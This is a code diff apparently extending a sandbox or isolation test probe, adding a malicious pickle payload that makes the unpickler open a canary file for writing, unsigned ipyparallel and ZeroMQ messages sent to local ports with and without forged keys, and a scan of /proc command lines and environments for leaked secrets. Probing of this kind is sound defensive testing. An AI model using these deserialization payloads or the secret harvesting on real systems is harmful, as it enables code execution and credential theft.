@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import pickle
 import random
 import re
 import socket
@@ -103,6 +104,81 @@ def knock(port: int, words: bytes) -> bytes:
     return got
 
 
+class Order:
+    """What becomes a file `where` if somebody unpickles it."""
+
+    def __init__(self, where: str) -> None:
+        self.where = where
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return open, (self.where, "w")
+
+
+def messages(where: str) -> Iterator[list[bytes]]:
+    """What is sent to every listener by its own protocol: orders of an ipyparallel client and of the lab, unsigned."""
+    order = pickle.dumps(Order(where))
+    head = json.dumps({"msg_id": "1", "msg_type": "apply_request", "username": "x", "session": "x", "version": "5.3"})
+    for kind in ("apply_request", "execute_request", "registration_request", "shutdown_request", "purge_request"):
+        about = head.replace("apply_request", kind).encode()
+        content = json.dumps({"code": f"open({where!r}, 'w')", "targets": "all", "silent": False}).encode()
+        yield [b"<IDS|MSG>", b"", about, b"{}", b"{}", content, order, order]
+    for what in ("learn", "abort", "own", "trust", "file"):
+        ask = {"number": 1, "what": what, "name": "run.json", "start": 0, "owner": None, "home": "x", "secret": "00"}
+        yield [json.dumps(ask).encode(), order]
+    yield [order]
+
+
+def talk(ports: list[int], where: str) -> tuple[int, bytes]:
+    """(messages sent, what came back): as a client without keys, and as one with keys that nobody knows."""
+    sent, heard = 0, b""
+    with zmq.Context() as context:
+        for port in ports:
+            for kind in (zmq.DEALER, zmq.PUB, zmq.REQ):
+                for keyed in (False, True):
+                    with context.socket(kind) as s:
+                        s.linger, s.sndtimeo = 0, 50
+                        if keyed:
+                            s.curve_serverkey, _ = zmq.curve_keypair()
+                            s.curve_publickey, s.curve_secretkey = zmq.curve_keypair()
+                        s.connect(f"tcp://127.0.0.1:{port}")
+                        sent, heard = sent + deliver(s, kind, where), heard + answers(s, kind)
+    return sent, heard
+
+
+def deliver(s: Any, kind: int, where: str) -> int:
+    """Sends each message as far as the socket takes it; how many that were."""
+    sent = 0
+    for message in messages(where):
+        try:
+            s.send_multipart(message)
+        except zmq.ZMQError:
+            break
+        sent += 1
+    return sent
+
+
+def answers(s: Any, kind: int) -> bytes:
+    heard = b""
+    while kind != zmq.PUB and s.poll(20):
+        heard += b"".join(s.recv_multipart())
+    return heard
+
+
+def told(secrets: list[str]) -> list[str]:
+    """Which secrets the system tells everybody: in the command line or the environment of a process, or a name."""
+    said = b""
+    for process in Path("/proc").glob("[0-9]*"):
+        for name in ("cmdline", "environ", "maps"):
+            try:
+                said += (process / name).read_bytes()
+            except OSError:
+                continue
+    for folder in ("/dev/shm", "/dev/mqueue", "/run", "/proc/net"):
+        said += b"".join(path.name.encode() for path in walk([folder]))
+    said += Path("/proc/net/unix").read_bytes()
+    return [secret for secret in secrets if secret.encode() in said]
+
+
 class Ear:
     """Subscribes without keys on every port, and keeps what comes."""
 
@@ -147,11 +223,14 @@ def main() -> dict[str, Any]:
             crowd.append(socket.create_connection(("127.0.0.1", port), timeout=1))
         except OSError:
             continue
+    sent, more = talk(asked["ports"], asked["canary"])
+    heard += more
     print("tried", flush=True)
     sys.stdin.readline()
     heard += ear.close()
     wanted = [text for text in asked["secrets"] if text.encode() in heard]
-    return {"uid": os.getuid(), "tries": tries, "opened": opened, "names": names, "heard": wanted, "crowd": len(crowd)}
+    return {"uid": os.getuid(), "tries": tries, "opened": opened, "names": names, "heard": wanted, "crowd": len(crowd),
+            "sent": sent, "told": told(asked["secrets"])}  # fmt: skip
 
 
 if __name__ == "__main__":
